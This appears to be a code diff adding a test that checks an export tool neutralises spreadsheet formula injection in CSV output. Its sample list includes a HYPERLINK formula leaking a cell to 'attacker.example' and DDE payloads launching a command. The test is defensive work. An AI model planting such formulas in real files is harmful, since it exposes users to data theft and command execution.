@@ -309,3 +309,35 @@ def test_an_unknown_or_missing_format_is_refused(dialin_like, tmp_path, formats,
     with pytest.raises(ValueError, match=f"{message}: choose from {', '.join(FORMATS)}"):
         write_export(store, run_id, tmp_path / "out", formats)
     assert not (tmp_path / "out").exists()
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3 refund please",
+            "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised_in_csv_and_kept_exact_elsewhere(tmp_path, capsys):
+    texts = FORMULAS + ["where is my refund", "my card was stolen", "cancel my card please", "refund not received yet"]
+    source = tmp_path / "queries.csv"
+    pd.DataFrame({"text": texts, "label": ["formula"] * 4 + ["refund", "card", "card", "refund"]}).to_csv(source, index=False)
+    out = tmp_path / "discover"
+    workspace = tmp_path / "w.duckdb"
+    assert main(["discover", str(source), "--workspace", str(workspace), "--out", str(out), "--method", "kmeans", "--k", "3",
+                 "--no-map"]) == 0
+    assignments = pd.read_csv(out / "assignments.csv", keep_default_na=False)
+    assert sorted(t for t in assignments["text"] if t.startswith("'")) == sorted("'" + f for f in FORMULAS)
+    assert not any(t.startswith(("=", "+", "-", "@")) for t in assignments["text"])
+    # evaluate reads discover's neutralised cells back as the texts they stand for: every utterance is scored
+    capsys.readouterr()
+    assert main(["evaluate", str(out / "assignments.csv"), str(source)]) == 0
+    assert json.loads(capsys.readouterr().out)["n_scored"] == len(texts)
+
+    with Store(workspace) as store:
+        written = write_export(store, 1, tmp_path / "export", FORMATS)
+    folder = tmp_path / "export"
+    as_csv = pd.read_csv(folder / "utterances.csv", keep_default_na=False)
+    assert sorted(t for t in as_csv["text"] if t.startswith("'")) == sorted("'" + f for f in FORMULAS)
+    assert set(FORMULAS) <= set(pd.read_parquet(folder / "utterances.parquet")["text"])  # Parquet keeps them exact
+    assert set(FORMULAS) <= set(pd.read_json(folder / "utterances.jsonl", lines=True)["text"])
+    card = json.loads((folder / "data_card.json").read_text())
+    assert card["csv_formula_cells"]["cells"] == 4 and folder / "data_card.md" in written
+    assert "Spreadsheet safety: 4 cells" in (folder / "data_card.md").read_text()
